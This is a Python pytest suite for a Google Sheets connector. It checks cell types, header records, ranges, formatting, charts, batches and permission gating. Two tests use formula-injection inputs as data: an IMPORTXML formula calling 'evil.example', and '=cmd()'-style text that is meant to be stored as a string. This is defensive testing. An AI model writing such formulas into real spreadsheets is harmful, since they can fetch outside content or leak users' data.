"""Sheets' actions against a server that speaks as Sheets does."""

from __future__ import annotations

import datetime as dt
import operator
from decimal import Decimal
from typing import Any

import pytest

from delf.errors import ToolRefusedError
from delf.notes import notes_of_call
from delf.protocols.connection import Allowed, NeedsApproval, ProposedCall, Refused
from delf.testing import Call, ConnectionContract
from delf_google.connection import SCOPE_URL_PREFIX
from delf_google.errors import GoogleError, LostAnswerError
from delf_sheets import Sheets
from support.google import GoogleServer

DAY = dt.date(2026, 11, 22)
MOMENT = dt.datetime(2026, 11, 22, 14, 30, 5)


class TestSheets(ConnectionContract):
    check_refuses = False
    logs_in = False  # tests/libs/google has refused logins, of all services at once
    untested = ("clear", "create", "add_sheet", "format", "chart", "batch")
    calls = (
        Call("info", spreadsheet="1file000002"),
        Call("read", spreadsheet="1file000002"),
        Call("write", spreadsheet="1file000002", range="A1", rows=[{"no": 1, "day": DAY}]),
        Call("append", spreadsheet="1file000002", rows=[[7, Decimal("9.5")]]),
    )
    failing_calls = (
        Call("read", spreadsheet="nowhere"),
        Call("read", spreadsheet="1file000002", range="Nowhere!A1"),
        Call("write", spreadsheet="1file000002", range="A1:B1", rows=[[1, 2, 3]]),
        Call("write", spreadsheet="1file000002", range="A1", rows=[[object]]),
        Call("batch", spreadsheet="1file000002", steps=[{"do": "explode"}]),
    )

    @pytest.fixture
    def connection(self, google: GoogleServer, connect: Any) -> Any:
        google.sheets.new_book(
            google.drive.add("Bills", "application/vnd.google-apps.spreadsheet").id, {}
        )
        return connect(Sheets)


@pytest.fixture
async def sheets(connect: Any) -> Any:
    made = connect(Sheets)
    yield made
    await made.aclose()


@pytest.fixture
async def book(sheets: Any) -> str:
    return (await sheets.create("Bills"))["id"]


async def test_written_values_keep_their_types(sheets: Any, book: str) -> None:
    row = ["text", "=1+1", "007", 7, 2.5, True, None, DAY, MOMENT, dt.time(9, 30), "2026-01-01"]
    await sheets.write(book, "A1", [row])
    assert (await sheets.read(book, header=False)) == [row]
    written = await sheets.write(book, "A2", [[Decimal("1.5"), dt.timedelta(hours=30), ""]])
    assert written == {"cells": 3}
    assert (await sheets.read(book, "A2:C2", header=False)) == [[1.5, dt.timedelta(hours=30), ""]]


async def test_rows_are_records_by_header(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [{"no": 1, "day": DAY}, {"no": 2, "paid": True}])
    assert await sheets.read(book) == [
        {"no": 1, "day": DAY, "paid": None},
        {"no": 2, "day": None, "paid": True},
    ]
    await sheets.append(book, [{"paid": False, "no": 3}, {"day": DAY}])
    assert (await sheets.read(book))[2:] == [
        {"no": 3, "day": None, "paid": False},
        {"no": None, "day": DAY, "paid": None},
    ]
    with pytest.raises(ToolRefusedError, match=r"no column 'payd'; .*did you mean 'paid'\?"):
        await sheets.append(book, [{"payd": True}])
    await sheets.write(book, "E1", [["x", "x", None, "y"]])
    assert list((await sheets.read(book))[0])[3:] == ["column_4", "x", "x_2", "column_7", "y"]


async def test_columns_named_by_numbers_get_their_values(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [["name", 2025, "2026"]])
    await sheets.append(book, [{"name": "rent", 2025: 10, 2026: 11}, {"2025": 12}])
    assert await sheets.read(book, "A2:C3", header=False) == [["rent", 10, 11], [None, 12]]
    with pytest.raises(ToolRefusedError, match="no column '2027'"):
        await sheets.append(book, [{2027: 1}])


async def test_column_named_by_zero_gets_its_values(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [[0]])
    await sheets.append(book, [{0: 5}])
    assert await sheets.read(book, "A1:A9", header=False) == [[0], [5]]


async def test_value_without_a_column_name_is_refused(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [["a", None, "b"]])
    with pytest.raises(ToolRefusedError, match="no column ''"):
        await sheets.append(book, [{"a": 1, "": 2}])


@pytest.mark.parametrize("row", [{2026: 1, "2026": 2}, {"b": 1, " b": 2}], ids=["number", "blank"])
async def test_two_values_for_a_column_are_refused(sheets: Any, book: str, row: Any) -> None:
    await sheets.write(book, "A1", [[2026, "b"]])
    with pytest.raises(ToolRefusedError, match=r"two values for the column '(2026|b)'"):
        await sheets.append(book, [row])
    assert len(await sheets.read(book, header=False)) == 1


async def test_blank_header_cell_gets_a_numbered_name(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [["a", " "], [1, 2]])
    assert await sheets.read(book) == [{"a": 1, "column_2": 2}]


async def test_rows_that_were_read_can_be_appended(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [["a", "x", "x", None, " b "], [1, 2, 3, 4, 5]])
    (row,) = await sheets.read(book)
    await sheets.append(book, [row, {"x": 7}])
    assert await sheets.read(book, "A3:E4", header=False) == [[1, 2, 3, 4, 5], [None, 7]]


async def test_columns_beside_the_header_can_be_appended(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [["a"], [1, 2, None, 4]])
    (row,) = await sheets.read(book)
    assert row == {"a": 1, "column_2": 2, "column_3": None, "column_4": 4}
    assert await sheets.append(book, [row]) == {"cells": 4}
    steps = [{"do": "append", "rows": [{"column_2": 5}]}]
    await sheets.batch(book, steps)
    rows = await sheets.read(book, "A3:D4", header=False)
    assert rows == [[1, 2, None, 4], [None, 5]]
    for name in ("column_0", "column_1", "column_27", "column_999999999"):  # the sheet has 26
        with pytest.raises(ToolRefusedError, match=f"no column '{name}'.*columns: a$"):
            await sheets.append(book, [{name: 1}])


async def test_formulas_are_written_only_on_request(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [[2], [3], ["=SUM(A1:A2)"], ["=1/0"]], formulas=True)
    assert await sheets.read(book, "A1:A4", header=False) == [[2], [3], [5], ["#DIV/0!"]]
    assert (await sheets.read(book, "A3", header=False, formulas=True)) == [["=SUM(A1:A2)"]]
    await sheets.write(book, "B1", [['=IMPORTXML("https://evil.example", "//a")']])
    assert (await sheets.read(book, "B1", header=False, formulas=True))[0][0].startswith(
        "=IMPORTXML"
    )


async def test_formula_like_text_is_stored_as_text(
    google: GoogleServer, sheets: Any, book: str
) -> None:
    await sheets.append(book, [["=cmd()", "+1", "@x", "-2"]])
    cells = google.sheets.books[book].sheets[0].cells
    assert {key for cell in cells.values() for key in cell["userEnteredValue"]} == {"stringValue"}


@pytest.mark.parametrize(
    "number",
    [2**2000, pytest.param(2**20_000, id="long"), Decimal("1e999"), Decimal("sNaN"), float("inf")],
)
async def test_number_that_a_cell_cannot_hold_is_refused(
    sheets: Any, book: str, number: Any
) -> None:
    with pytest.raises(ToolRefusedError, match="a cell cannot hold"):
        await sheets.write(book, "A1", [[number]])


async def test_number_whose_digits_a_cell_would_change_is_refused(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [[2**53, -(2**60), 10**22]])
    for number in (2**53 + 1, -(2**60) - 1, 1234567890123456789):
        with pytest.raises(ToolRefusedError, match=f"all digits of {number}; as text it can"):
            await sheets.write(book, "A1", [[number]])


async def test_sheet_grows_with_written_rows(google: GoogleServer, sheets: Any, book: str) -> None:
    await sheets.write(book, "Y999", [[1, 2, 3], [4, 5, 6], [7, 8, 9]])
    assert (await sheets.info(book))["sheets"] == [{"title": "Sheet1", "rows": 1001, "columns": 27}]
    with pytest.raises(ToolRefusedError, match="10,000,000 cells"):
        await sheets.write(book, "A9999999", [[1]])


async def test_ranges_names_and_links_are_resolved(
    google: GoogleServer, sheets: Any, book: str
) -> None:
    await sheets.add_sheet(book, "Ada's plan")
    await sheets.write(book, "'Ada''s plan'!B2", [[1, 2], [3, 4]])
    assert await sheets.read(book, "'Ada''s plan'!B2:B", header=False) == [[1], [3]]
    assert await sheets.read(book, "Ada's plan!C3", header=False) == [[4]]
    area = {"sheetId": google.sheets.books[book].sheets[1].id, "startRowIndex": 1, "endRowIndex": 3, "startColumnIndex": 1, "endColumnIndex": 3}  # fmt: skip
    google.sheets.books[book].names.append({"name": "Numbers", "namedRangeId": "n", "range": area})
    await sheets.write(book, "Numbers", [[5, 6]])
    assert await sheets.read(book, "Numbers", header=False) == [[5, 6], [3, 4]]
    assert (await sheets.info(book))["names"] == ["Numbers"]
    with pytest.raises(ToolRefusedError, match="do not fit"):
        await sheets.write(book, "Numbers", [[1]] * 3)
    lost = {"name": "Lost", "namedRangeId": "l", "range": {**area, "sheetId": 404}}
    google.sheets.books[book].names.append(lost)
    with pytest.raises(ToolRefusedError, match="'Lost' is a range of a sheet that does not exist"):
        await sheets.write(book, "Lost", [[1]])
    with pytest.raises(ToolRefusedError, match=r"no sheet 'Shet1'; .*did you mean 'Sheet1'"):
        await sheets.write(book, "Shet1!A1", [[1]])
    with pytest.raises(ToolRefusedError, match="ends before it begins"):
        await sheets.clear(book, "B2:A1")
    published = "https://docs.google.com/spreadsheets/d/e/2PACX-1vQ0/pubhtml"
    for reference in ("my bills!", published):
        with pytest.raises(ToolRefusedError, match="neither the id nor the address"):
            await sheets.info(reference)
    link = f"https://docs.google.com/spreadsheets/d/{book}/edit#gid=0"
    assert (await sheets.info(link))["id"] == book


async def test_clear_keeps_formats(google: GoogleServer, sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [[DAY, 1]])
    await sheets.clear(book, "Sheet1")
    assert await sheets.read(book, header=False) == [[None]] or await sheets.read(book) == []
    assert "numberFormat" in google.sheets.books[book].sheets[0].cells[0, 0]["userEnteredFormat"]


async def test_format_and_chart_requests_change_the_sheet(
    google: GoogleServer, sheets: Any, book: str
) -> None:
    await sheets.write(book, "A1", [{"month": "May", "net": 7.5}, {"month": "June", "net": 9}])
    await sheets.format(book, "A1:B1", bold=True, background="#ff8800", align="center", font_size=14, borders=True, freeze_rows=1)  # fmt: skip
    await sheets.format(book, "B:B", number_format="#,##0.00 €", color="red")
    sheet = google.sheets.books[book].sheets[0]
    look = sheet.cells[0, 0]["userEnteredFormat"]
    assert look["textFormat"] == {"bold": True, "fontSize": 14}
    line = {"style": "SOLID"}
    assert look["borders"] == {"top": line, "bottom": line, "left": line, "right": line}
    assert look["backgroundColorStyle"]["rgbColor"] == {"red": 1.0, "green": 136 / 255, "blue": 0.0}
    assert sheet.cells[1, 1]["userEnteredFormat"]["numberFormat"] == {"type": "CURRENCY", "pattern": "#,##0.00 €"}  # fmt: skip
    assert sheet.properties["gridProperties"]["frozenRowCount"] == 1
    await sheets.chart(book, "A1:B3", kind="line", title="Net")
    spec = google.sheets.books[book].sheets[0].charts[0]["spec"]
    assert (spec["title"], spec["basicChart"]["chartType"]) == ("Net", "LINE")
    await sheets.chart(book, "A1:B3", kind="pie", anchor="D9")
    with pytest.raises(ToolRefusedError, match="two columns"):
        await sheets.chart(book, "A1:A3")
    with pytest.raises(ToolRefusedError, match="not a color"):
        await sheets.format(book, "A1", color="puce")
    with pytest.raises(ToolRefusedError, match="give a new look"):
        await sheets.format(book, "A1")


STEPS: list[dict[str, Any]] = [
    {"do": "add_sheet", "title": "Q3"},
    {"do": "append", "sheet": "Q3", "rows": [{"a": 1, "b": 2}]},
    {"do": "write", "range": "Q3!D1", "rows": [["=A2*2"]], "formulas": True},
    {"do": "format", "range": "Q3!A1:B1", "bold": True},
    {"do": "chart", "range": "Q3!A1:B2"},
    {"do": "clear", "range": "Sheet1!A1"},
]


async def test_batch_is_applied_atomically(google: GoogleServer, sheets: Any, book: str) -> None:
    info = await sheets.batch(book, STEPS)
    assert [s["title"] for s in info["sheets"]] == ["Sheet1", "Q3"]
    assert await sheets.read(book, "Q3!A1:D2", header=False) == [["a", "b", None, 2], [1, 2]]
    assert google.calls("sheets.spreadsheets.batchUpdate") == 1
    bad = [
        {"do": "write", "range": "A1", "rows": [[1]]},
        {"do": "write", "range": "Nowhere!A1", "rows": [[1]]},
    ]
    with pytest.raises(ToolRefusedError, match="step 2, write: there is no sheet"):
        await sheets.batch(book, bad)
    with notes_of_call() as notes:
        assert await sheets.read(book, header=False) == []
    assert list(notes) == ["the range has no rows"]
    with pytest.raises(ToolRefusedError, match=r"step 1: unknown step 'wipe'"):
        await sheets.batch(book, [{"do": "wipe"}])
    with pytest.raises(ToolRefusedError, match="step 1, format: give a new look"):
        await sheets.batch(book, [{"do": "format", "range": "A1"}])
    with pytest.raises(ToolRefusedError, match=r"step 1: .*unknown argument 'colour'"):
        await sheets.batch(book, [{"do": "format", "range": "A1", "colour": "red"}])


@pytest.mark.parametrize(
    "first",
    [
        {"do": "append", "sheet": "Q3", "rows": [{"a": 1, "b": 2}]},
        {"do": "append", "sheet": "Q3", "rows": [["a", "b"], [1, 2]]},
        {"do": "write", "range": "Q3!A1", "rows": [{"a": 1, "b": 2}]},
        {"do": "write", "range": "Q3!A1:B2", "rows": [["a", "b"], [1, 2]]},
    ],
)
@pytest.mark.parametrize("is_new", [True, False])
async def test_batch_appends_below_the_header_that_it_writes(
    sheets: Any, book: str, first: Any, is_new: bool
) -> None:
    steps = [{"do": "add_sheet", "title": "Q3"}]
    if not is_new:
        await sheets.batch(book, [*steps, {"do": "write", "range": "Q3!A1", "rows": [["old"] * 3]}])
        steps = [{"do": "clear", "range": "Q3!A:C"}]
        if first["do"] == "append":
            first = {"do": "write", "range": "Q3!A1", "rows": first["rows"]}
    more = [{"do": "append", "sheet": "Q3", "rows": [{"b": 4, "a": 3}]}] * 2
    await sheets.batch(book, [*steps, first, *more])
    rows = await sheets.read(book, "Q3")
    assert rows == [{"a": 1, "b": 2}, {"a": 3, "b": 4}, {"a": 3, "b": 4}]


@pytest.mark.parametrize("step", STEPS, ids=operator.itemgetter("do"))
async def test_batch_refuses_step_with_spreadsheet_of_its_own(
    google: GoogleServer, sheets: Any, book: str, step: dict[str, Any]
) -> None:
    with pytest.raises(ToolRefusedError, match="step 1: the batch names the spreadsheet"):
        await sheets.batch(book, [{**step, "spreadsheet": "another"}])
    assert google.calls("sheets.spreadsheets.batchUpdate") == 0


async def test_batch_obeys_allow_and_confirm(connect: Any, book: str) -> None:
    async def verdict(**settings: Any) -> Any:
        arguments = {"spreadsheet": book, "steps": STEPS}
        made = connect(Sheets, **settings)
        try:
            return await made.check(ProposedCall(action="batch", arguments=arguments))
        finally:
            await made.aclose()

    assert isinstance(await verdict(confirm=False), Allowed)
    asked = await verdict(confirm=["format"])
    assert isinstance(asked, NeedsApproval)
    assert "format" in asked.reason
    assert "rows=1 rows" in (asked.preview or "")
    refused = await verdict(allow=["reading", "batch", "writing"])
    assert isinstance(refused, Refused)
    assert refused.message.startswith("step 1: add_sheet is not allowed (the setting allow of ")


async def test_append_with_a_lost_answer_is_not_repeated(
    google: GoogleServer, sheets: Any, book: str
) -> None:
    google.lose("sheets.spreadsheets.batchUpdate")
    with pytest.raises(LostAnswerError):
        await sheets.append(book, [[1]])
    assert await sheets.read(book, header=False) == [[1]]
    google.lose("sheets.spreadsheets.batchUpdate")
    await sheets.write(book, "A1", [[2]])  # writing the same twice is no harm
    assert await sheets.read(book, header=False) == [[2]]


async def test_unstorable_cell_value_is_refused(sheets: Any, book: str) -> None:
    for value, words in (
        (float("nan"), "nan"),
        ("x" * 50_001, "50,001"),
        ([1], "a list"),
        (b"x", "bytes"),
    ):
        with pytest.raises(ToolRefusedError, match=f"B1: .*{words}"):
            await sheets.write(book, "A1", [[1, value]])
    with pytest.raises(ToolRefusedError, match="all dicts, or all lists"):
        await sheets.write(book, "A1", [[1], {"a": 1}])
    with pytest.raises(GoogleError, match="Unable to parse range"):
        await sheets.read(book, "A1:!")


def test_sheets_permissions_and_scopes_match_the_actions() -> None:
    methods = {m.get("permission", m["name"]) for m in Sheets.inspect(verbose=True)["methods"]}
    assert methods == {"reading", "writing", "creating", "format", "chart", "batch"}
    assert Sheets(allow="read").needed_scopes() == (SCOPE_URL_PREFIX + "spreadsheets.readonly",)
    assert Sheets().needed_scopes() == (SCOPE_URL_PREFIX + "spreadsheets",)


@pytest.mark.parametrize(
    ("pattern", "kind"),
    [
        ("#,##0;[Red]-#,##0", "NUMBER"),
        ('0 "days"', "NUMBER"),
        ("0\\d", "NUMBER"),
        ("[Cyan][<0]0.0;0", "NUMBER"),
        ("#,##0.00 €", "CURRENCY"),
        ("[$₹-4009]#,##0", "CURRENCY"),
        ("0%;[Red]-0%", "PERCENT"),
        ("0.00E+00", "SCIENTIFIC"),
        ("yyyy-mm-dd;@", "DATE"),
        ("mmmm yy", "DATE"),
        ("dd/mm/yyyy hh:mm", "DATE_TIME"),
        ("[h]:mm", "TIME"),
        ("mm:ss.000", "TIME"),
        ("@", "TEXT"),
    ],
)
async def test_number_format_sets_the_shown_value(
    google: GoogleServer, sheets: Any, book: str, pattern: str, kind: str
) -> None:
    await sheets.format(book, "A1", number_format=pattern)
    look = google.sheets.books[book].sheets[0].cells[0, 0]["userEnteredFormat"]
    assert look["numberFormat"] == {"type": kind, "pattern": pattern}


async def test_formatted_empty_cells_are_not_rows(sheets: Any, book: str) -> None:
    await sheets.write(book, "A1", [{"name": "Ada", "net": 7.5}, {"name": None, "net": 9}])
    await sheets.format(book, "A:D", number_format="0.00", bold=True)
    assert await sheets.read(book) == [{"name": "Ada", "net": 7.5}, {"name": None, "net": 9}]
    assert await sheets.read(book, header=False) == [["name", "net"], ["Ada", 7.5], [None, 9]]
